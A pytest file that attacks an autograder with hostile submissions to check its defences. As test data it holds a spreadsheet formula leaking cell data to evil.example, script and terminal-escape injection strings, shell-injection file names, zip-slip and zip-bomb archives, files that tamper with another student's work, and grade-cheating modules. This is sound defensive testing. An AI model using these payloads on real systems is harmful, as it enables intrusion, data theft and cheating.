"""Attacks on the grader as a whole: names, archives, reports, the two front ends, other submissions, later runs."""

from __future__ import annotations

import csv
import json
import os
import pty
import re
import shutil
import stat
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from autograder.checks.bundle import Bundle
from autograder.checks.compare import leaves
from autograder.checks.judge import Property, judge_question
from autograder.checks.question import parse_call
from autograder.checks.worker import plain, run_calls
from autograder.grading import reports

from ..conftest import ALL_ATTACKS, Run, write_package
from . import harness
from .catalogue import HEAD

EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202egnp.exe\u2066"
SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def text_of(folder: Path) -> str:
    return "".join(path.read_text("utf-8") for path in sorted(folder.rglob("*")) if path.is_file())


# ---------------------------------------------------------------- what is asked is not what was published


def memorised(bundle: Bundle, solution: Mapping[str, bytes]) -> dict[str, bytes]:
    """Modules that solve nothing, with a table of the right answers to all public calls."""
    table: dict[str, Any] = {}
    modules: dict[str, dict[str, Any]] = {}
    for question in bundle.questions:
        if question.torch:
            continue
        space = modules.setdefault(question.module, {})
        if not space:
            import importlib

            space.update(vars(importlib.import_module(f"memnet.{question.module}")))

        def recorded(name: str, space: dict[str, Any] = space) -> Any:
            def call(*args: Any) -> Any:
                result = space[name](*args)
                table[name + repr([np.asarray(a).tolist() if isinstance(a, np.ndarray) else a for a in args])] = result
                return result

            return call

        for case in question.cases:
            if not case.hidden:
                calls = [parse_call(text) for text in case.calls or question.calls]
                run_calls(calls, recorded, case.inputs, case.layouts)
    code = textwrap.dedent("""
        TABLE = __import__("pickle").loads(bytes.fromhex("$TABLE"))
        def cheat(name, args):
            key = name + repr([np.asarray(a).tolist() if isinstance(a, np.ndarray) else a for a in args])
            return TABLE.get(key)
    """)
    import pickle

    code = code.replace("$TABLE", pickle.dumps({key: plain(value) for key, value in table.items()}).hex())
    return {name: (HEAD + code).encode() for name in modules}


def with_outputs(modules: Mapping[str, bytes], bundle: Bundle) -> dict[str, bytes]:
    with harness.outside() as where:
        return {name: harness.fill(source.decode(), where, Path("none"), bundle).encode()
                for name, source in modules.items()}  # fmt: skip


def test_memorised_public_answers_earn_nothing_where_inputs_differ(
    runners: harness.Runners, baked: Bundle, properties: Mapping[str, Property], solution: Mapping[str, bytes]
) -> None:
    modules = with_outputs(memorised(harness.exact(baked), solution), baked)
    # Where a function has no inputs, or is asked for what it makes itself, a memorised right answer is a right answer.
    drawn = [q for q in harness.exact(baked).questions
             if any(isinstance(v, np.ndarray) and v.dtype.kind == "f" for c in q.cases for v in c.inputs.values())]  # fmt: skip
    assert len(drawn) > 15
    asked = replace(baked, questions=tuple(drawn))
    record = harness.run_ours(modules, runners.confined, asked, properties).record
    assert {q["name"]: q["earned"] for q in record["questions"] if q["earned"]} == {}
    assert all(case["hidden"] for q in record["questions"] for case in q["cases"] if case["verdict"] != "passed")
    # Without the hidden cases it would have been everything.
    public = replace(asked, questions=tuple(replace(q, cases=tuple(c for c in q.cases if not c.hidden)) for q in drawn))
    total = harness.run_ours(modules, runners.confined, public, properties).points
    assert total == sum(q.points for q in drawn)


def test_no_answer_lies_among_the_inputs_that_a_worker_has_seen(baked: Bundle) -> None:
    """In the order in which cases are asked. Gradients below the limit are, by definition, not clipped."""
    seen: set[tuple[Any, bytes]] = set()
    found = set()
    for hidden in (False, True):
        for question in baked.questions:
            for case in (case for case in question.cases if case.hidden is hidden):
                seen |= {key for value in case.inputs.values() for _, leaf in leaves("", value) if (key := known(leaf))}
                answers = [key for value in case.expected.values() for _, leaf in leaves("", value)
                           if (key := known(leaf))]  # fmt: skip
                if any(key in seen for key in answers) and case.costs == 1.0:
                    found.add((question.name, case.name))
    assert len(seen) > 300
    assert found == set()


def known(value: Any) -> tuple[Any, bytes] | None:
    array = np.asarray(value)
    if array.dtype.kind != "f" or array.size < 3 or len(np.unique(array)) < 3:
        return None
    return array.shape, np.round(array, 7).tobytes()


LEAK = HEAD + '''
seen = sys.modules.setdefault("stash", type(sys)("stash")).__dict__.setdefault("seen", [])
def cheat(name, args):
    for a in args:
        if isinstance(a, np.ndarray) and a.dtype == float and a.size:
            seen.append("%.4f" % a.ravel()[0])
    raise ValueError("seen: " + " ".join(seen[-120:]))
'''


def test_hidden_inputs_do_not_come_out_through_public_cases(
    runners: harness.Runners, baked: Bundle, properties: Mapping[str, Property], solution: Mapping[str, bytes]
) -> None:
    """Code that remembers what it saw, and says it where its student reads it."""
    asked = harness.exact(baked)
    questions = asked.questions
    modules = with_outputs({q.module: LEAK.encode() for q in questions}, baked)
    first = {f"{v.ravel()[0]:.4f}": c.hidden for q in questions for c in q.cases for v in c.inputs.values()
             if isinstance(v, np.ndarray) and v.dtype == float and v.size}  # fmt: skip
    public = {number for q in questions for c in q.cases if not c.hidden for v in c.inputs.values()
              if isinstance(v, np.ndarray) and v.dtype == float and v.size for number in [f"{v.ravel()[0]:.4f}"]}  # fmt: skip
    secret = {number for number, hidden in first.items() if hidden} - public
    assert len(secret) > 50

    def shown(record: Mapping[str, Any]) -> set[str]:
        page = reports.feedback_page(record, title="t", parts=baked.parts)
        return set(re.findall(r"-?\d\.\d{4}\b", page)) & secret

    record = harness.run_ours(modules, runners.confined, asked, properties).record
    assert "seen: " in reports.feedback_page(record, title="t", parts=baked.parts), "it spoke in public cases"
    assert shown(record) == set()
    # Question by question, as it would be without that order, they do come out.
    runners.confined.open(modules)
    old = [judge_question(question, runners.confined, properties) for question in questions]
    runners.confined.close()
    assert len(shown({**record, "questions": old})) > 20


# ---------------------------------------------------------------- a class with hostile submissions in it

HOSTILE = {
    "remembers": "import os, io\ndef rnn_step(*a):\n    raise ValueError({text!r})\n",
    "says": "print({text!r})\nimport sys\nsys.stderr.write({text!r})\ndef rnn_step(*a):\n    return {text!r}\n",
    "is named so": "def rnn_step(*a):\n    return type({text!r}, (), {{}})()\n",
    "raises a class so named": "def rnn_step(*a):\n    raise type({text!r}, (Exception,), {{}})({text!r})\n",
    "does not compile": "def rnn_step(:  # {text}\n",
    "is no text": "\xff\xfe\x00",
}
NAMES = (
    "=1+1", "+1", "-1", "@SUM(A1)", "[red]", "[/]", "[link=x]y[/link]", "a\tb", "a\rb", "a\nb,9,9,9", EVIL, "a'b\"c",
    "{{7*7}}", "%s%n", "$(touch left)", "`touch left`", ";touch left", "<b>", "﹤script﹥", "＝1+1", "con", "..hidden", "~",
    "journal.jsonl", "grades.csv", "a" * 200, "é", "x.zip.zip", "-rf", "__class__", " =1+1", "0", "None",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, solution: Mapping[str, bytes]) -> Path:
    """A class of one honest student and many others."""
    folder = tmp_path_factory.mktemp("class")
    honest = {name: source for name, source in solution.items() if name in ("rnn", "order")}
    write_package(folder / "honest", honest)
    other = folder / "honest" / "memnet" / "rnn.py"
    wants = "raise SystemExit"
    write_package(folder / "targets another", {"rnn": f"""
import io, os
for attempt in (
    lambda: io.open({str(other)!r}, "a").write({wants!r}), lambda: os.unlink({str(other)!r}),
    lambda: os.rename({str(folder / "honest")!r}, {str(folder / "gone")!r}), lambda: os.chmod({str(other)!r}, 0),
    lambda: io.open("/tmp/numpy.py", "w").write({wants!r}), lambda: io.open("numpy.py", "w").write({wants!r}),
    lambda: io.open(os.path.expanduser("~/.pth"), "w"), lambda: os.symlink("/", {str(folder / "root")!r}),
):
    try:
        attempt()
        print("IT WORKED")
    except OSError:
        pass
def rnn_step(*a):
    return a[0]
""".encode()})  # fmt: skip
    for i, (what, source) in enumerate(HOSTILE.items()):
        for text in (SCRIPT, EVIL, FORMULA):
            write_package(folder / f"{what} {i} {[SCRIPT, EVIL, FORMULA].index(text)}",
                          {"rnn": source.format(text=text).encode("latin-1", "backslashreplace")})  # fmt: skip
    for name in NAMES:
        write_package(folder / name, {"rnn": b"def rnn_step(*a):\n    return 1.0\n"})
    files = folder / "brings files"
    write_package(files, {"rnn": b"import conftest\n", "numpy": b"raise SystemExit", "conftest": b"raise SystemExit"})
    for name in ("conftest.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "torch.py", "autograder.py"):
        (files / name).write_text(f"open({str(folder / 'trapped')!r}, 'w')")
    (files / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\npythonpath = .\n")
    (files / "memory_in_networks.ipynb").write_text("[" * 100_000)
    (files / ".venv").mkdir()
    links = folder / "links"
    write_package(links, {"order": b"x = 1"})
    (links / "memnet" / "rnn.py").symlink_to(harness.ROOT / "reference" / "memnet" / "rnn.py")
    write_package(folder / "devices", {"order": b"x = 1"})
    os.mkfifo(folder / "devices" / "memnet" / "rnn.py")
    (folder / "whole link").symlink_to(folder / "honest")
    with zipfile.ZipFile(folder / "slip.zip", "w") as archive:
        archive.writestr("memnet/rnn.py", "x = 1")
        archive.writestr("../../../../../tmp/slipped.py", "x = 1")
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("memnet/rnn.py", b"#" * (300 << 20))
    with zipfile.ZipFile(folder / "linked.zip", "w") as archive:
        info = zipfile.ZipInfo("memnet/rnn.py")
        info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, str(harness.ROOT / "reference/memnet/rnn.py"))
    with zipfile.ZipFile(folder / "deep notebook.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("memnet/rnn.py", "def rnn_step(*a):\n    return 1.0\n")
        archive.writestr("memory_in_networks.ipynb", b'{"cells":' * 200_000)
    return folder


@pytest.fixture(scope="module")
def out(hostile: Path, bundle_file: Path, run: Run, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("results") / "out"
    before = sorted(path.name for path in hostile.iterdir())
    done = run("autograder", "grade", hostile, "--out", folder, "--bundle", bundle_file, "--jobs", 2, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    assert not set("\x1b\x07\u202e\u2066") & set(done.stdout + done.stderr)
    assert sorted(path.name for path in hostile.iterdir()) == before
    assert not (hostile / "trapped").exists()
    return folder


def records(out: Path) -> dict[str, dict[str, Any]]:
    found = [json.loads(path.read_text("utf-8")) for path in (out / "records").iterdir()]
    return {record["submission"]: record for record in found}


def test_nobody_gains_and_nobody_loses(out: Path, hostile: Path, bundle_file: Path, run: Run, tmp_path: Path) -> None:
    found = records(out)
    assert len(found) == len([p for p in hostile.iterdir() if not p.name.startswith(".")])
    assert {name for name, record in found.items() if record["total"]} == {"honest"}
    assert {record["status"] for record in found.values()} == {"graded", "unreadable"}
    assert not any("IT WORKED" in record["printed"] for record in found.values())
    alone = tmp_path / "alone"
    shutil.copytree(hostile / "honest", alone / "honest")
    done = run("autograder", "grade", alone, "--out", tmp_path / "out", "--bundle", bundle_file)
    assert done.returncode == 0
    for name in ("records/honest.json", "feedback/honest.html"):
        assert (tmp_path / "out" / name).read_bytes() == (out / name).read_bytes()


def test_links_devices_and_archives_are_left_alone(out: Path) -> None:
    found = {name: record["problem"] for name, record in records(out).items()}
    for name, says in {"links": "is a link", "devices": "not a regular file", "whole link": "is a link",
                       "slip": "not a plain path", "bomb": "larger than", "linked": "is a link"}.items():  # fmt: skip
        assert says in found[name], name
    assert not Path("/tmp/slipped.py").exists()


def test_no_markup_of_theirs_is_markup_in_a_page(out: Path) -> None:
    for path in (out / "feedback").iterdir():
        page = path.read_text("utf-8")
        assert re.findall(r"<(?:script|img|b>x|a |iframe)", page) == [], path.name
        assert not set("\x1b\x07\u202e\u2066\r") & set(page), path.name
        assert "onerror=alert" not in re.sub(r"&lt;.*?&gt;", "", page), path.name
    joined = text_of(out / "feedback")
    assert "&lt;script&gt;" in joined, "it is shown as text"
    assert "{{7*7}}" in joined
    assert "49</h1>" not in joined


def test_the_table_is_a_table(out: Path) -> None:
    text = (out / "grades.csv").read_text("utf-8")
    rows = list(csv.reader(text.splitlines()))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == len(records(out)) + 1
    formulas = re.compile(r"^\s*[=+\-@|\t\r＝＋－＠]")
    assert [cell for row in rows[1:] for cell in row if formulas.match(cell) and not re.match(r"-?[\d.]+$", cell)] == []


def test_file_names_stay_in_their_folders(out: Path) -> None:
    for path in out.rglob("*"):
        assert path.is_dir() or path.parent in (out, out / "records", out / "feedback")
        assert re.fullmatch(r"[^\x00-\x1f<>:\"/\\|?*]+", path.name), path.name
    assert (out / "journal.jsonl").stat().st_size > 1000
    assert all(json.loads(line) for line in (out / "journal.jsonl").read_text("utf-8").splitlines())


def test_escaping_is_what_stops_it(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With that layer off, markup and formulas arrive."""
    found = records(out)
    record = found["remembers 0 0"]
    assert "<script>" not in reports.feedback_page(record, title="t", parts={"B": "b"})
    monkeypatch.setattr(reports.ENVIRONMENT, "autoescape", False)
    reports.ENVIRONMENT.cache.clear()
    assert "<script>" in reports.feedback_page(record, title="t", parts={"B": "b"})
    reports.ENVIRONMENT.cache.clear()
    monkeypatch.setattr(reports, "spreadsheet_safe", lambda text: text)
    assert "\n=1+1," in reports.grades_csv([found["=1+1"]], [])


def test_a_later_run_finds_the_same(out: Path, hostile: Path, bundle_file: Path, run: Run) -> None:
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    done = run("autograder", "grade", hostile, "--out", out, "--bundle", bundle_file)
    assert done.returncode == 0
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before


def test_names_with_markup_on_a_terminal(hostile: Path, bundle_file: Path, tmp_path: Path) -> None:
    """The progress bar shows names; square brackets are its own markup."""
    folder = tmp_path / "class"
    for name in ("[/]", "[red]", EVIL, "[bold"):
        shutil.copytree(hostile / name if (hostile / name).exists() else hostile / "[/]", folder / name)
    code = ("import sys; from autograder.cli import main; sys.exit(main(['grade', *sys.argv[1:]]))")  # fmt: skip
    main, side = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-c", code, str(folder), "--out", str(tmp_path / "out"), "--bundle", str(bundle_file)],
        stdin=side, stdout=side, stderr=side, cwd=harness.ROOT, env={**os.environ, "TERM": "xterm", "COLUMNS": "120"},
    )  # fmt: skip
    os.close(side)
    said = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:
            break
        if not chunk:
            break
        said += chunk
    os.close(main)
    assert process.wait(timeout=60) == 0, said[-2000:]
    assert b"owned" not in re.sub(rb"\\u[0-9a-f]{4}\]0;owned", b"", said)
    assert b"\x1b]0;" not in said


# ---------------------------------------------------------------- the grader, started in a submission's folder

# What Python imports when it starts a process of its own, and what it looks for at any start.
IMPORTED = ("multiprocessing", "pickle", "struct", "socket", "numpy", "sitecustomize", "usercustomize", "autograder")


@pytest.mark.parametrize("more", [("--jobs", "1"), pytest.param(("--dask", "local", "--jobs", "1"), marks=pytest.mark.attack)])
def test_nothing_is_imported_from_the_folder_where_the_grader_is_started(
    more: tuple[str, ...], bundle_file: Path, tmp_path: Path
) -> None:
    mark, folder = tmp_path / "trapped", tmp_path / "one"
    write_package(folder, {"rnn": b"def rnn_step(*a):\n    return 1.0\n"})
    for name in IMPORTED:
        (folder / f"{name}.py").write_text(f"open({str(mark)!r}, 'a').write({name!r})\nraise SystemExit")
    program = tmp_path / "bin" / "autograder"  # as pip makes it
    program.parent.mkdir()
    program.write_text("import sys\nfrom autograder.cli import main\nif __name__ == '__main__':\n    sys.exit(main())\n")
    assignment = harness.ROOT / "assignments" / "memory_in_networks"
    command = [sys.executable, program, "grade", ".", "--assignment", assignment, "--bundle", bundle_file, *more]

    def grade(out: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*command, "--out", tmp_path / out], cwd=folder, capture_output=True, text=True, timeout=120,
                              env={**os.environ, "PYTHONPATH": str(harness.ROOT)}, check=False)  # fmt: skip

    done = grade("out")
    assert (done.returncode, mark.exists()) == (0, False), done.stderr
    subprocess.run([sys.executable, "-c", "import pickle"], cwd=folder, check=False)
    assert mark.exists(), "a plain start imports it, or this proves nothing"


def test_an_assignment_that_was_handed_in_is_not_run(bundle_file: Path, run: Run, tmp_path: Path) -> None:
    write_package(tmp_path / "one", {"rnn": b"x = 1"})
    theirs = tmp_path / "one" / "assignments" / "theirs"
    theirs.mkdir(parents=True)
    for name in ("assignment.toml", "properties.py"):
        (theirs / name).write_text(f"open({str(tmp_path / 'trapped')!r}, 'w')")
    for command in (("grade", "."), ("similar", "."), ("written", tmp_path / "records", ".")):
        done = run("autograder", *command, "--out", tmp_path / "out", cwd=tmp_path / "one",
                   env={"PYTHONPATH": str(harness.ROOT)})  # fmt: skip
        assert done.returncode == 2, done.stderr
        assert "is part of what is graded, and not taken for the assignment; go to the project's root" in done.stderr
    assert not (tmp_path / "trapped").exists()


# ---------------------------------------------------------------- pytest


def test_pytest_shows_hostile_text_as_text(hostile: Path, bundle_file: Path, run: Run) -> None:
    names = ("remembers 0 1", "is named so 2 1", "raises a class so named 3 1", EVIL)
    for name in names if ALL_ATTACKS else names[:1]:
        done = run("pytest", f"--submission={hostile / name}", "--bundle", bundle_file, "-p", "no:cacheprovider",
                   "-k", "rnn_step and small", "--color=no")  # fmt: skip
        assert done.returncode == 1, done.stdout
        assert "rnn_step" in done.stdout
        assert not set("\x1b\x07\u202e\u2066") & set(done.stdout + done.stderr), name


def test_pytest_runs_nothing_of_a_submission(hostile: Path, bundle_file: Path, run: Run) -> None:
    for folder in ("brings files", "links", "slip.zip") if ALL_ATTACKS else ("brings files",):
        done = run("pytest", f"--submission={hostile / folder}", "--bundle", bundle_file, "-p", "no:cacheprovider",
                   "-k", "rnn_step and small")  # fmt: skip
        assert done.returncode in (1, 4), done.stdout
    assert not (hostile / "trapped").exists()


@pytest.mark.attack
def test_gap_pytest_itself_obeys_settings_where_it_is_started(tmp_path: Path, run: Run) -> None:
    """Known gap: before any plugin is asked, pytest reads settings of the folder that it is started in, or that is
    given in two words, and imports what they name. Refused afterwards; said in the documentation."""
    mark = tmp_path / "obeyed"
    (tmp_path / "pytest.ini").write_text("[pytest]\naddopts = -p trap\npythonpath = .\n")
    (tmp_path / "trap.py").write_text(f"open({str(mark)!r}, 'w').close()")
    done = run("pytest", "--submission", tmp_path)
    assert (done.returncode, mark.exists()) == (4, True)
    mark.unlink()
    done = run("pytest", f"--submission={tmp_path}", "-p", "no:cacheprovider", "-k", "rnn_step and small")
    assert "memnet/rnn.py is not in the submission" in done.stdout  # graded, as the loose modules that it is
    assert (done.returncode, mark.exists()) == (1, False)
